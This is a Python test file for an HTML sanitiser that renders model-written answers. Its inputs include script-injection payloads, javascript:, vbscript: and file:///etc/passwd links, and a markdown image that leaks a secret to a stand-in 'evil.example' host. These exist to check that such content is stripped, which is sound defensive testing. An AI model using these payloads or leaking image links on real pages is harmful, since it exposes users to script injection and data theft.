"""What a model writes becomes safe HTML."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.answer_markup import answer_html, plain_html

_MARKUP = st.sampled_from(
    ["<", ">", "&", '"', "'", "`", "*", "_", "[", "]", "(", ")", "!", "\n", "|", "---", "# ", "- ", "    ", "http://e.e",
     "javascript:", "<img src=x onerror=y>", "<script>", "![a](http://e.e/x)", "[a](data:text/html,x)", "&#106;"]
)  # fmt: skip
ANY_ANSWER = st.lists(st.one_of(_MARKUP, st.text(max_size=8)), max_size=25).map("".join)

HARMLESS = {
    "p", "br", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "a", "span", "div", "table",
    "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6",
}  # fmt: skip


class Elements(HTMLParser):
    """Every element and attribute in a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@given(ANY_ANSWER)
def test_no_answer_can_bring_in_a_script_a_picture_or_a_strange_address(answer: str) -> None:
    for tag, attributes in Elements(answer_html(answer)).found:
        assert tag in HARMLESS
        assert not any(name.startswith("on") or name in ("src", "srcset", "id") for name in attributes)
        if tag == "a":
            assert str(attributes["href"]).lower().startswith(("http:", "https:", "mailto:"))
            assert "noopener" in str(attributes["rel"])


def test_a_remote_picture_is_described_and_not_loaded() -> None:
    html = answer_html("See ![a <cat>](http://evil.example/leak.png?q=secret)")
    assert "evil.example" not in html
    assert "a &lt;cat&gt;" in html


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "x"]
)
def test_a_link_to_anything_but_the_web_or_mail_stays_text(address: str) -> None:
    assert "<a" not in answer_html(f"[here]({address})")


def test_lists_tables_code_and_single_breaks_are_kept() -> None:
    html = answer_html("one\ntwo\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```\n<b>\n```")
    for part in ("<br>", "<li>a</li>", "<td>1</td>", "&lt;b&gt;"):
        assert part in html.replace("<br />", "<br>")


@given(st.text())
def test_what_a_person_typed_shows_every_character(text: str) -> None:
    assert Elements(plain_html(text)).found == []
